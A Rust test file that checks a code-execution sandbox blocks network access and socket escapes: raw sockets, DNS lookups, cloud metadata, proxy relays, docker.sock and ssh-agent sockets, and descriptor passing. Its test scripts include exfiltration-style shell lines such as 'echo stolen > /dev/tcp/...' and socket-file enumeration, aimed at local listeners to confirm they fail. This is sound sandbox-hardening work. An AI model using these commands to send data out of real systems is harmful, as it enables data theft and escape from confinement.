//! Reaching the network, and other processes' sockets. The network by domain is in tests/network.rs.

use super::attempts::{Attacker, Outcome, outcomes, words};
use crate::LAUNCHER;
use crate::host::{Bystander, Host, SECRET, eventually, helper, text};
use codegenie_exec::{DangerousNoSandbox, Sandbox, SandboxPolicy, SandboxRequest};
use std::io::{BufRead, BufReader};
use std::net::{TcpListener, UdpSocket};
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Duration;

/// 54: TCP/UDP/ICMP/raw
#[tokio::test]
async fn sends_nothing_to_the_host_and_opens_no_raw_socket() {
    let host = Host::new(LAUNCHER);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let receiver = UdpSocket::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    receiver.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port().to_string();
    let tcp = host.attempts("tcp", &words([&"127.0.0.1", &port])).await;
    tcp.all_fail("tcp", None);
    assert!(listener.accept().is_ok());
    assert!(listener.accept().is_err(), "a connection came out of the sandbox");
    let port = receiver.local_addr().unwrap().port().to_string();
    let udp = host.attempts("udp", &words([&"127.0.0.1", &port])).await;
    assert_eq!(udp.unconfined["udp"], Outcome::Done);
    let mut bytes = [0; 16];
    assert!(receiver.recv(&mut bytes).is_ok());
    assert!(receiver.recv(&mut bytes).is_err(), "a datagram came out of the sandbox");
    host.all_fail("raw,raw_ip,packet,sctp", &[]).await;
}

/// 55: bash /dev/tcp
#[tokio::test]
async fn reaches_no_network() {
    let host = Host::new(LAUNCHER);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let script = format!("echo stolen > /dev/tcp/127.0.0.1/{port}");

    assert!(host.unconfined(&script).await.status.reason.is_success());
    assert!(eventually(|| listener.accept().is_ok()));

    let confined = host.confined(&script).await;
    assert!(!confined.status.reason.is_success());
    assert!(listener.accept().is_err(), "a connection came out of the sandbox");
}

/// A host in a network of its own, whose loopback also has `address`. What it prints.
fn host_beside(address: &str, workspace: &Path) -> String {
    let attacker = Attacker::get();
    let output = Command::new(attacker.path())
        .args(["beside", address])
        .arg(std::env::current_exe().unwrap())
        .args(helper("abuse::network::helper_is_a_host_beside"))
        .env("CODEGENIE_ADDRESS", address)
        .env("CODEGENIE_WORKSPACE", workspace)
        .output()
        .unwrap();
    format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr))
}

/// Not a test: listens on an address of its network, and tells what arrives from a command.
#[tokio::test]
#[ignore = "a helper program of the tests of addresses, which run it in a network of its own"]
async fn helper_is_a_host_beside() {
    let (Ok(address), Ok(workspace)) =
        (std::env::var("CODEGENIE_ADDRESS"), std::env::var("CODEGENIE_WORKSPACE"))
    else {
        return;
    };
    let listener = TcpListener::bind((address.as_str(), 8053)).unwrap();
    let receiver = UdpSocket::bind((address.as_str(), 8053)).unwrap();
    listener.set_nonblocking(true).unwrap();
    receiver.set_nonblocking(true).unwrap();
    let policy = SandboxPolicy::workspace_write(workspace).timeout(Duration::from_secs(20));
    let script =
        format!("echo stolen > /dev/tcp/{address}/8053; echo stolen > /dev/udp/{address}/8053; echo ran");
    for confine in [false, true] {
        let request = SandboxRequest::new("bash", policy.clone()).arg("-c").arg(&script);
        let output = if confine {
            LAUNCHER.run(&request).await.unwrap()
        } else {
            DangerousNoSandbox.run(&request).await.unwrap()
        };
        assert!(text(&output).contains("ran"));
        let (mut streams, mut datagrams) = (0, 0);
        while listener.accept().is_ok() {
            streams += 1;
        }
        while receiver.recv(&mut [0; 16]).is_ok() {
            datagrams += 1;
        }
        println!("confined {confine}: {streams} connections, {datagrams} datagrams");
    }
}

fn assert_unreachable(address: &str) {
    let host = Host::new(LAUNCHER);
    let told = host_beside(address, &host.path("workspace"));
    assert!(told.contains("confined false: 1 connections, 1 datagrams"), "{told}");
    assert!(told.contains("confined true: 0 connections, 0 datagrams"), "{told}");
}

/// 56: DNS exfiltration
///
/// To a name server of the local network, as /etc/resolv.conf names one.
#[tokio::test]
async fn asks_no_name_server() {
    assert_unreachable("10.200.0.53");
    let host = Host::new(LAUNCHER);
    let output = host.confined("getent hosts secret.example.com; cat /etc/resolv.conf; true").await;
    assert!(output.stdout.is_empty(), "{}", text(&output));
}

/// 57: link-local metadata
#[tokio::test]
async fn asks_no_metadata_service() {
    assert_unreachable("169.254.169.254");
}

/// 59: CONNECT relay, NO_PROXY
///
/// Without a network there is no proxy to pass; the relay itself is in tests/network.rs.
#[tokio::test]
async fn knows_and_reaches_no_proxy_of_the_host() {
    let host = Host::new(LAUNCHER);
    let proxy = TcpListener::bind("127.0.0.1:0").unwrap();
    proxy.set_nonblocking(true).unwrap();
    let port = proxy.local_addr().unwrap().port();
    let script = format!(
        "env | grep -i proxy; exec 3<>/dev/tcp/127.0.0.1/{port} && printf 'CONNECT example.com:443 HTTP/1.1\\r\\n\\r\\n' >&3 && echo sent"
    );
    assert!(text(&host.unconfined(&script).await).contains("sent"));
    assert!(proxy.accept().is_ok());
    for variable in ["NO_PROXY", "ALL_PROXY", "http_proxy"] {
        let request = host.shell(host.policy(), &script).env(variable, "*");
        assert!(!text(&LAUNCHER.run(&request).await.unwrap()).contains("sent"));
    }
    assert!(proxy.accept().is_err(), "a connection came out of the sandbox");
}

/// What a process outside offers to whoever connects: a descriptor of the secret.
fn confederate(host: &Host, attacker: &Attacker) -> (Bystander, String) {
    let name = format!("codegenie-{}-{}", std::process::id(), host.root.path().display());
    let mut process = Bystander::spawn(
        Command::new(attacker.path())
            .arg("confederate")
            .arg(&name)
            .args([host.path("other/docker.sock"), host.path("other/precious")])
            .stdout(Stdio::piped()),
    );
    let mut line = String::new();
    BufReader::new(process.0.stdout.take().unwrap()).read_line(&mut line).unwrap();
    assert_eq!(line, "ready\n");
    (process, name)
}

/// 60: docker.sock, D-Bus, ssh-agent
#[tokio::test]
async fn reaches_no_service_by_its_socket_file() {
    let host = Host::new(LAUNCHER);
    let attacker = Attacker::get();
    let (_process, name) = confederate(&host, &attacker);
    host.all_fail("unix_path", &words([&name, &host.path("other/docker.sock")])).await;
    let output = host
        .confined(
            "ls /run /var/run /run/user /var/run/docker.sock /run/dbus; find / -xdev -type s; \
             env | grep -E 'SSH_AUTH_SOCK|DBUS|DOCKER|XDG_RUNTIME'",
        )
        .await;
    assert!(output.stdout.is_empty(), "{}", text(&output));
}

/// 61: abstract unix
#[tokio::test]
async fn reaches_no_abstract_socket() {
    let host = Host::new(LAUNCHER);
    let attacker = Attacker::get();
    let (_process, name) = confederate(&host, &attacker);
    host.all_fail("unix_abstract", &words([&name])).await;
}

/// 62: VSOCK/netlink/AF_ALG
#[tokio::test]
async fn opens_no_socket_of_another_family() {
    let names = "vsock,alg,bluetooth,netlink_audit,netlink_events,netlink_filter,netlink_generic,packet";
    let host = Host::new(LAUNCHER);
    host.all_fail(names, &[]).await;
    // That the filter refuses it, and not a kernel without the family.
    let tried = host.attempts("vsock,netlink_audit", &[]).await;
    assert_eq!(tried.confined["vsock"], Outcome::Errno(97));
    assert_eq!(tried.confined["netlink_audit"], Outcome::Errno(93));
}

/// 63: SCM_RIGHTS import
#[tokio::test]
async fn imports_no_descriptor() {
    let host = Host::new(LAUNCHER);
    let attacker = Attacker::get();
    let (_process, name) = confederate(&host, &attacker);
    let arguments = words([&name, &host.path("other/docker.sock")]);
    host.all_fail("import_abstract,import_path", &arguments).await;
    let request = host.attack(&attacker, host.policy(), "read", &words([&host.path("other/precious")]));
    let output = LAUNCHER.run(&request).await.unwrap();
    assert_eq!(outcomes(&output)["read"], Outcome::Errno(2));
    assert!(!text(&output).contains(SECRET));
}
